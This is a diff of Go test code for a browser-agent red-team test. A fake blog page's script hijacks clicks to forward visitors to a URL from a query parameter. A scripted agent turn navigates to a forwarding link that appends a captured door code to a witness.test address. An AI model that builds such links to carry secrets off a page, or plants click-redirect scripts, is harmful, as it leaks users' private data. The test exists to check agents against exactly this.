@@ -35,7 +35,7 @@ func rtBlog() http.Handler {
 <h1>You are leaving the blog</h1>
 <p id="txt">Click anywhere to continue.</p>
 <p><a id="mine" href="https://witness.test/mine">Or go to a site I like</a></p>
-<script>const to = new URLSearchParams(location.search).get('to');
+<script>const to = `+rtForwardJS(r)+`;
 document.addEventListener('click', (e) => { e.preventDefault(); location.href = to; });
 document.body.dataset.pageScript = 'ran';</script></body></html>`)
 	})
@@ -53,7 +53,7 @@ func TestRedteamAgentPersonClickForwarded(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			aw := newAgentWorld(t, `{"turns": [
 				{"tool_calls": [{"name": "capture_page"}]},
-				{"tool_calls": [{"name": "navigate", "arguments": {"url": "/continue?to=https://witness.test/c?d={{grab:door code is ([0-9]+)}}"}}]},
+				{"tool_calls": [{"name": "navigate", "arguments": {"url": "/continue?`+rtTox("https://witness.test/c?d=", "{{grab:door code is ([0-9]+)}}")+`"}}]},
 				{"text": "Opened."}
 			]}`, map[string]http.Handler{"blog.test": rtBlog()})
 			tab := aw.tab
